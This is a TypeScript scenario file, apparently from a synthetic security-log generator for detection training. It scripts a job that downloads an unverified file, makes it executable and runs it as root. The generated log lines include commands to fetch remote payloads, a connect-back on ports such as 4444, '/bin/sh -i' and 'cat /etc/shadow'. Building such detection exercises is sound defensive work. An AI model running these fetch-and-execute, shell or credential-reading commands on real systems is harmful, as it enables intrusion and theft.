import { defineScenario } from '../../scenario.ts'
import { background } from '../../fragments/background.ts'
import { compared } from '../../fragments/compared.ts'
import { destination } from '../../fragments/destination.ts'
import { aftermath } from '../../fragments/aftermath.ts'
import { entry } from '../../fragments/entry.ts'
import { lean } from '../../fragments/lean.ts'
import { opening } from '../../fragments/opening.ts'
import { remark } from '../../fragments/remark.ts'

export default defineScenario({
  risk: 'Malicious Code Execution',
  title: 'A job downloads a file, makes it executable and runs it',
  clues: [
    'The file comes from {host}, which no configuration names',
    'Its digest is not the published one, and the job goes on',
    'Within seconds of the download it was made executable and run',
    'It runs as root although the job has its own account',
    'The started process connects back to the host it came from',
    'Its name says one kind of file, its first bytes another',
  ],
  steps: (story) => {
    const { make, either, pick, whole, note } = story
    const from = destination(story, 'origin')
    const digest = compared(story, 'file')
    const user = either(make.user('runner'), make.serviceUser('runner'))
    const uid = make.uid('runner')
    const path = make.path('file', 'temporary')
    const child = make.pid('child')
    note('host', from.host)
    return [
      ...opening(story, 'runner', user),
      entry(
        'resolver',
        'dns_answer',
        { query: from.host, answer: from.address, ttl: either(60, 3600), zone: from.zone },
        ['{query} is {answer} ({zone})', 'answered {query} {answer} ttl={ttl}'],
      ),
      entry(
        'audit',
        'exec',
        {
          pid: make.pid('fetch'),
          ppid: make.pid('shell'),
          uid,
          euid: uid,
          cmd: `${pick('fetcher', ['curl -fsSL', 'wget -q', 'fetch -o'])} https://${from.host}/${either(pick('name', ['update.bin', 'setup.sh', 'agent', 'patch.tgz', 'payload.sh', 'helper.bin']), pick('usual name', ['update.bin', 'setup.sh', 'agent', 'patch.tgz', 'tools.tar.gz', 'baseline.json']))} -o ${path}`,
        },
        ['uid={uid} {cmd}', 'pid {pid} ran {cmd}'],
      ),
      entry(
        'proxy',
        'download',
        {
          host: from.host,
          dst_ip: from.address,
          status: 200,
          bytes_in: make.bytes('file', 9000, 9_000_000),
          listed: from.listed,
          times_seen: from.seen,
        },
        [
          '{host} {status}, {bytes_in} bytes, listed {listed}, seen {times_seen} times',
          'GET {host} {status} listed={listed}',
        ],
      ),
      entry('audit', 'create', { path, inode: make.inode('file'), mode: '0644', owner: user }, [
        '{path} created by {owner}, mode {mode}',
        'create {path} inode={inode}',
      ]),
      entry(
        'checksum',
        'compare',
        { path, sha256_expected: digest.expected, sha256_actual: digest.actual, result: digest.verdict },
        [
          '{path}: expected {sha256_expected}, got {sha256_actual}: {result}',
          'sha256 {path} {result} actual={sha256_actual}',
        ],
      ),
      ...background(story, 'one'),
      ...background(story, 'besides'),
      ...background(story, 'elsewhere'),
      entry(
        'gpg',
        'signature',
        {
          path,
          key_id: make.id('key'),
          result: lean(story, 'signature', ['no public key', 'missing', 'bad'], ['good', 'verified']),
        },
        ['signature of {path} by {key_id}: {result}', 'gpg {path} key={key_id} {result}'],
      ),
      entry(
        'file',
        'magic',
        {
          path,
          content: either(
            pick('odd', ['ELF executable', 'shell script', 'packed executable']),
            pick('even', ['gzip data', 'ASCII text', 'signed package']),
          ),
          extension: pick('extension', ['.tmp', '.jpg', '.bin']),
        },
        ['{path} is {content}, named {extension}', 'magic {path} "{content}"'],
      ),
      entry(
        'audit',
        'chmod',
        {
          path,
          mode_before: '0644',
          mode: either(pick('mode', ['0755', '0777', '4755']), pick('plain mode', ['0644', '0600', '0755'])),
          uid,
        },
        ['{path} {mode_before} to {mode}', 'chmod {mode} {path} uid={uid}'],
      ),
      either(
        entry(
          'audit',
          'exec',
          { pid: child, ppid: make.pid('shell'), uid, euid: 0, cmd: path, cgroup: '/user.slice' },
          ['uid={uid} euid={euid} {cmd}', 'pid {pid} ran {cmd} in {cgroup}'],
        ),
        entry(
          'audit',
          'exec',
          {
            pid: child,
            ppid: make.pid('shell'),
            uid,
            euid: uid,
            cmd: `${pick('opens', ['tar -tzf', 'dpkg-deb -I', 'head -c 512'])} ${path}`,
            cgroup: '/system.slice/update.service',
          },
          ['uid={uid} euid={euid} {cmd}', 'pid {pid} ran {cmd} in {cgroup}'],
        ),
      ),
      entry(
        'audit',
        'connect',
        {
          pid: child,
          dst_ip: either(from.address, make.insideAddress('metrics')),
          dst_port: either(pick('port', [4444, 8443, 1337, 9001]), pick('usual port', [443, 9100, 8080])),
          bytes_out: whole('out', 90, 4000),
          result: 'success',
        },
        [
          'pid {pid} connected {dst_ip}:{dst_port}, {bytes_out} bytes out',
          'connect dst={dst_ip}:{dst_port} {result}',
        ],
      ),
      either(
        entry(
          'audit',
          'exec',
          {
            pid: make.pid('grandchild'),
            ppid: child,
            uid,
            euid: 0,
            cmd: pick('then', ['/bin/sh -i', 'id', 'cat /etc/shadow', 'crontab -']),
            cgroup: '/user.slice',
          },
          ['uid={uid} euid={euid} {cmd}', 'pid {pid} ran {cmd} in {cgroup}'],
        ),
        entry(
          'audit',
          'exit',
          {
            pid: child,
            ppid: make.pid('shell'),
            uid,
            euid: uid,
            rc: 0,
            cgroup: '/system.slice/update.service',
          },
          ['pid {pid} ended {rc}, uid {uid}', 'exit pid={pid} rc={rc}'],
        ),
      ),
      ...aftermath(story),
      remark(story, 'file', 'downloaded file'),
    ]
  },
})
